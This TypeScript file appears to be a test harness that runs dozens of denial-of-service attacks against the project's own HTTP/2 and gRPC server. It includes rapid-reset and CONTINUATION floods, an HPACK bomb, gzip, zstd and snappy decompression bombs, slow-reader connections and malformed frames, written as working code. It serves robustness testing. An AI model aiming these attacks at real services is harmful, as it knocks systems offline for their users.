/** Attacks on HTTP/2 and on gRPC over it. */

import { gzipSync } from "node:zlib";
import type { Encoding } from "../../../src/call/encodings.ts";
import { compress } from "../../../src/codec/compression.ts";
import { ByteWriter } from "../../../src/bytes/writer.ts";
import { HpackEncoder } from "../../../src/hpack/encoder.ts";
import { PREFACE } from "../../../src/http2/constants.ts";
import { concat, EMPTY } from "../../fixtures/bytes.ts";
import { sleep } from "../../fixtures/waiting.ts";
import { data, frame, goaway, ping, rst, settings, u32, windowUpdate } from "../../http2/frames.ts";
import { type Attack, flood, floodsAfter, keepOn, lying, repeat, wait } from "./attack.ts";
import type { RawConnection } from "./raw_connection.ts";

const ECHO = "/vrpc.echo.v1.EchoService/Echo";
const ALMOST_ECHO = "/vrpc.echo.v1.EchoService/Ecko";
const STREAM = "/vrpc.echo.v1.EchoService/EchoStream";
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const PADDED = 0x8;
const STREAMS_PER_WRITE = 500;
const WAITING_CALLS = 120;

/** Requests of one connection: the first adds its fields to the HPACK table, others are a few octets. */
class Requests {
  #encoder = new HpackEncoder();
  #nextId = 1;

  block(path: string, more: readonly (readonly [string, string])[] = []): Uint8Array {
    const out = new ByteWriter();
    this.#encoder.begin(out);
    const fields = [
      [":method", "POST"],
      [":scheme", "http"],
      [":path", path],
      [":authority", "victim"],
      ["te", "trailers"],
      ["content-type", "application/grpc"],
      ...more,
    ] as const;
    for (const [name, value] of fields) this.#encoder.field(out, name, value);
    return out.view().slice();
  }

  /** HEADERS of a new stream. */
  headers(path: string, flags = END_HEADERS): { id: number; bytes: Uint8Array } {
    return this.raw(this.block(path), flags);
  }

  raw(block: Uint8Array, flags = END_HEADERS): { id: number; bytes: Uint8Array } {
    const id = this.#nextId;
    this.#nextId += 2;
    return { id, bytes: frame(1, flags, id, block) };
  }

  /** Encodes many streams into one array. */
  many(count: number, path: string, rest: (id: number) => Uint8Array, flags = END_HEADERS) {
    const pieces: Uint8Array[] = [];
    for (let i = 0; i < count; i++) {
      const { id, bytes } = this.headers(path, flags);
      pieces.push(bytes, rest(id));
    }
    return concat(...pieces);
  }
}

function begin(connection: RawConnection, ...pairs: [number, number][]): Promise<boolean> {
  return connection.write(concat(PREFACE, settings(...pairs), frame(4, 1, 0)));
}

function message(payload: Uint8Array, flag = 0): Uint8Array {
  return concat(Uint8Array.of(flag, ...u32(payload.length)), payload);
}

function bytesField(payload: Uint8Array): Uint8Array {
  const length: number[] = [];
  for (let rest = payload.length; length.push(rest > 127 ? rest & 127 | 128 : rest), rest > 127;) {
    rest >>>= 7;
  }
  return concat(Uint8Array.of(0x0a, ...length), payload);
}

const SMALL = message(bytesField(new Uint8Array(64)));

/** Creates an attack of requests for `path`, each followed by `rest`. */
function requests(
  name: string,
  group: string,
  path: string,
  rest: (id: number) => Uint8Array,
  more: Partial<Attack> = {},
  pairs: [number, number][] = [],
): Attack {
  return {
    name,
    group,
    wire: "grpc",
    async run(connection) {
      const requests = new Requests();
      if (!await begin(connection, ...pairs)) return;
      await keepOn(connection, () => requests.many(STREAMS_PER_WRITE, path, rest));
    },
    ...more,
  };
}

/** Creates an attack that repeats frames. */
const floodOf = floodsAfter("grpc", begin);

/** Creates an attack that repeats frames on one open stream. */
function onStream(name: string, group: string, make: (id: number) => Uint8Array): Attack {
  return {
    name,
    group,
    wire: "grpc",
    async run(connection) {
      const { id, bytes } = new Requests().headers(STREAM);
      if (!await begin(connection) || !await connection.write(bytes)) return;
      await flood(connection, repeat(make(id), 1_000));
    },
  };
}

/** Creates an attack of one write that must end the connection or the call. */
function once(
  name: string,
  group: string,
  bytes: () => Uint8Array,
  pairs: [number, number][] = [],
) {
  return {
    name,
    group,
    wire: "grpc",
    async run(connection: RawConnection) {
      if (!await begin(connection, ...pairs) || !await connection.write(bytes())) return;
      await wait(connection);
    },
  } as const;
}

function bombs(
  name: string,
  encoding: Encoding = "gzip",
  change: (bomb: Uint8Array) => Uint8Array = (bomb) => bomb,
): Attack {
  return {
    name,
    group: BOMBS,
    wire: "grpc",
    async run(connection) {
      if (!await begin(connection)) return;
      const requests = new Requests();
      const bomb = message(change(compress(new Uint8Array(10_000_000), encoding)), 1);
      await keepOn(connection, () => {
        const block = requests.block(ECHO, [["grpc-encoding", encoding]]);
        const { id, bytes } = requests.raw(block);
        return concat(bytes, data(id, bomb, END_STREAM));
      });
    },
  };
}

/** Removes the size of 4 bytes from the header of a zstd frame, which then has a window of 8 MiB (RFC 8878 §3.1.1.1). */
function withoutSize(bomb: Uint8Array): Uint8Array {
  return concat(bomb.subarray(0, 4), Uint8Array.of(0, 0x68), bomb.subarray(9));
}

/** Calls that are reset by the following piece, in which as many are opened. */
function resetsInTheNextPiece(
  name: string,
  message: Uint8Array,
  pairs: [number, number][] = [],
): Attack {
  return {
    name,
    group: RESETS,
    wire: "grpc",
    async run(connection) {
      const requests = new Requests();
      if (!await begin(connection, ...pairs)) return;
      let ids: number[] = [];
      await keepOn(connection, () => {
        const resets = ids.map((id) => rst(id, 8));
        ids = [];
        const calls = requests.many(WAITING_CALLS, STREAM, (id) => {
          ids.push(id);
          return data(id, message);
        });
        return concat(...resets, calls);
      });
    },
  };
}

const RESETS = "resets";
const HEADERS = "header blocks";
const FLOODS = "floods";
const SLOW = "slow readers";
const BOMBS = "message bombs";
const RULES = "broken rules";

/** All attacks on gRPC. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  requests("rapid reset", RESETS, ECHO, (id) => rst(id, 8), { tls: true }),
  requests(
    "rapid reset of complete calls",
    RESETS,
    ECHO,
    (id) => concat(data(id, SMALL, 1), rst(id, 8)),
  ),
  resetsInTheNextPiece("resets of calls with an answer", SMALL),
  resetsInTheNextPiece(
    "resets of calls whose answer is not taken",
    message(bytesField(new Uint8Array(2_000))),
    [[4, 0]],
  ),
  requests("resets provoked from the server", RESETS, STREAM, (id) => windowUpdate(id, 0)),
  requests("half a message, then its end", RESETS, ECHO, (id) => data(id, [0, 0, 0, 0, 9], 1)),
  requests("unknown methods", RESETS, "/no.Such/Method", (id) => data(id, SMALL, 1)),
  requests(
    "unknown methods with near matches",
    RESETS,
    ALMOST_ECHO,
    (id) => data(id, SMALL, 1),
  ),
  {
    name: "CONTINUATION without end",
    group: HEADERS,
    wire: "grpc",
    async run(connection) {
      const requests = new Requests();
      if (!await begin(connection)) return;
      const { id, bytes } = requests.raw(requests.block(ECHO), 0);
      if (await connection.write(bytes)) {
        await flood(connection, repeat(frame(9, 0, id, [0x82]), 1_000));
      }
    },
  },
  {
    name: "empty CONTINUATION without end",
    group: HEADERS,
    wire: "grpc",
    async run(connection) {
      const requests = new Requests();
      if (!await begin(connection)) return;
      const { id, bytes } = requests.raw(requests.block(ECHO), 0);
      if (await connection.write(bytes)) await flood(connection, repeat(frame(9, 0, id), 1_000));
    },
  },
  {
    name: "large header lists",
    group: HEADERS,
    wire: "grpc",
    async run(connection) {
      if (!await begin(connection)) return;
      const requests = new Requests();
      const large = "v".repeat(16_000);
      const more = [["x-large", large], ["x-large", large + "w"]] as const;
      await keepOn(connection, () => {
        const block = requests.block(ECHO, more);
        const { id, bytes } = requests.raw(block.subarray(0, 16_000), 0);
        return concat(bytes, frame(9, 4, id, block.subarray(16_000)));
      });
    },
  },
  {
    name: "HPACK bomb",
    group: HEADERS,
    wire: "grpc",
    tls: true,
    async run(connection) {
      if (!await begin(connection)) return;
      const requests = new Requests();
      const first = requests.raw(requests.block(ECHO, [["x-bomb", "b".repeat(3_500)]]), 5);
      if (!await connection.write(first.bytes)) return;
      // The newest entry has index 62: one octet refers to 3.5 KB.
      const block = new Uint8Array(16_000).fill(0x80 | 62);
      await keepOn(connection, () => requests.raw(block, 5).bytes);
    },
  },
  {
    name: "many header fields of one octet",
    group: HEADERS,
    wire: "grpc",
    async run(connection) {
      if (!await begin(connection)) return;
      const requests = new Requests();
      const block = concat(requests.block(ECHO), new Uint8Array(10_000).fill(0x80 | 19));
      await keepOn(connection, () => requests.raw(block, 5).bytes);
    },
  },
  requests(
    "replies that meet a closed window",
    SLOW,
    ECHO,
    (id) => data(id, SMALL, 1),
    { tls: true },
    [[4, 0]],
  ),
  requests("replies that are never read", SLOW, ECHO, (id) => data(id, SMALL, 1), {
    reading: false,
  }),
  {
    name: "large replies that are never read",
    group: SLOW,
    wire: "grpc",
    reading: false,
    async run(connection) {
      if (!await begin(connection, [4, 0x7fffffff])) return;
      if (!await connection.write(windowUpdate(0, 0x7fff0000 - 65_535))) return;
      const requests = new Requests();
      const body = message(bytesField(new Uint8Array(60_000)));
      await keepOn(connection, () => {
        const { id, bytes } = requests.headers(ECHO);
        const parts = [0, 16_000, 32_000, 48_000].map((from) =>
          data(id, body.subarray(from, from + 16_000), from === 48_000 ? END_STREAM : 0)
        );
        return concat(bytes, ...parts);
      });
    },
  },
  requests("streams opened and never ended", SLOW, STREAM, () => EMPTY, { connections: 30 }),
  requests(
    "messages begun and never ended",
    SLOW,
    STREAM,
    (id) => data(id, [0, 0, 0x3f, 0, 0, 1]),
    {
      connections: 30,
    },
  ),
  onStream("one octet per DATA frame", FLOODS, (id) => data(id, [0])),
  onStream("empty DATA frames", FLOODS, (id) => data(id, [])),
  onStream(
    "padding and little else",
    FLOODS,
    (id) => frame(0, PADDED, id, [255, 0, ...new Uint8Array(255)]),
  ),
  onStream("window updates of 1", FLOODS, (id) => windowUpdate(id, 1)),
  floodOf("PING", FLOODS, ping(), { tls: true }),
  floodOf("PING whose replies are never read", FLOODS, ping(), { reading: false }),
  floodOf("SETTINGS", FLOODS, settings([3, 100])),
  floodOf(
    "SETTINGS that change windows",
    FLOODS,
    concat(settings([4, 1]), settings([4, 0x7ffffff])),
  ),
  floodOf("acknowledgements of nothing", FLOODS, concat(frame(4, 1, 0), ping(1))),
  floodOf("PRIORITY", FLOODS, frame(2, 0, 1, [0, 0, 0, 3, 16])),
  floodOf("frames of unknown types", FLOODS, frame(0xfe, 0, 0, [1])),
  floodOf("GOAWAY", FLOODS, goaway(0, 0)),
  floodOf("window updates of the connection", FLOODS, windowUpdate(0, 1)),
  {
    name: "tiny messages that wait for their handlers",
    group: SLOW,
    wire: "grpc",
    async run(connection) {
      // Replies without a window (RFC 9113 §6.9.2) keep the handlers from reading.
      if (!await begin(connection, [4, 0])) return;
      const requests = new Requests();
      const tiny = repeat(message(Uint8Array.of(0x78, 1)), 2_000);
      const ids: number[] = [];
      for (let call = 0; call < WAITING_CALLS; call++) {
        const { id, bytes } = requests.headers(STREAM);
        ids.push(id);
        if (!await connection.write(bytes)) return;
      }
      for (let round = 0; round < 4; round++) {
        for (const id of ids) if (!await connection.write(frame(0, 0, id, tiny))) return;
      }
      await wait(connection);
    },
  },
  {
    name: "requests that inflate and wait",
    group: BOMBS,
    wire: "grpc",
    async run(connection) {
      if (!await begin(connection, [4, 0])) return;
      const requests = new Requests();
      const bomb = message(gzipSync(bytesField(new Uint8Array(4_000_000))), 1);
      // Those that are refused are followed by others, so that the load lasts.
      for (;;) {
        const { id, bytes } = requests.raw(requests.block(STREAM, [["grpc-encoding", "gzip"]]));
        if (!await connection.write(concat(bytes, frame(0, 0, id, bomb)))) return;
      }
    },
  },
  {
    name: "trickling messages",
    group: SLOW,
    wire: "grpc",
    connections: 50,
    async run(connection) {
      const { id, bytes } = new Requests().headers(ECHO);
      if (!await begin(connection) || !await connection.write(bytes)) return;
      if (!await connection.write(data(id, [0, 0, 0x3f, 0, 0]))) return;
      while (await connection.write(data(id, [0]))) await sleep(10);
    },
  },
  once("a message of 4 GiB", BOMBS, () => {
    const { id, bytes } = new Requests().headers(ECHO);
    return concat(bytes, data(id, [0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3]));
  }),
  bombs("gzip bombs"),
  bombs("gzip bombs with a false size", "gzip", lying),
  bombs("zstd bombs", "zstd"),
  bombs("zstd bombs without a size", "zstd", withoutSize),
  bombs("snappy bombs", "snappy"),
  once("a frame of 16 MiB", RULES, () => Uint8Array.of(0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1)),
  once("SETTINGS_MAX_FRAME_SIZE 0", RULES, () => settings([5, 0])),
  once("a window of 4 GiB", RULES, () => settings([4, 0xffffffff])),
  once("even stream", RULES, () => frame(1, 5, 2, new Requests().block(ECHO))),
  once("DATA on an idle stream", RULES, () => data(99, [1])),
  once("broken HPACK", RULES, () => frame(1, 5, 1, [0x80])),
  requests("a path without slash", RULES, "no-slash", (id) => data(id, SMALL, 1)),
  {
    name: "HTTP/1 requests",
    group: RULES,
    wire: "grpc",
    async run(connection) {
      if (!await connection.write(new TextEncoder().encode("GET / HTTP/1.1\r\nhost: a\r\n\r\n"))) {
        return;
      }
      await wait(connection);
    },
  },
  {
    name: "silent connections",
    group: "silence",
    wire: "grpc",
    connections: 300,
    tls: true,
    run: wait,
  },
  {
    name: "half a preface",
    group: "silence",
    wire: "grpc",
    connections: 300,
    async run(connection) {
      if (await connection.write(PREFACE.slice(0, 20))) await wait(connection);
    },
  },
  {
    name: "connections that open and close",
    group: "silence",
    wire: "grpc",
    connections: 10,
    tls: true,
    async run(connection) {
      await begin(connection);
      connection.close();
    },
  },
];
